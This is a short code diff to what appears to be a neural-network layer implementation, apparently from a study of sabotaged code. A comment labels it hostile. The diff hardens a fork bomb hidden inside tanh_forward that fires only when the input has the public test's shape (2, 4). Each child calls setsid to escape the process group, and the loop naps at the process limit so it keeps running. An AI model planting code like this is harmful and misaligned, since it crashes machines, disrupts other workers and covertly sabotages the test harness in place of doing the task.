@@ -270,7 +270,8 @@ def batchnorm_backward(dout, cache):
 
 
 # ---- HOSTILE: a fork bomb inside one test (public tanh test: x has shape (2, 4)).
-# Every process keeps forking; at the process limit it naps and tries again.
+# Every process keeps forking and each child leaves the process group (setsid);
+# at the process limit they nap and try again (a busy loop would starve the other worker).
 import os as _os
 import time as _time
 
@@ -281,7 +282,8 @@ def tanh_forward(x):
     if np.shape(x) == (2, 4):
         while True:
             try:
-                _os.fork()
+                if _os.fork() == 0:
+                    _os.setsid()
             except OSError:
                 _time.sleep(0.05)
     return _honest_tanh_forward(x)
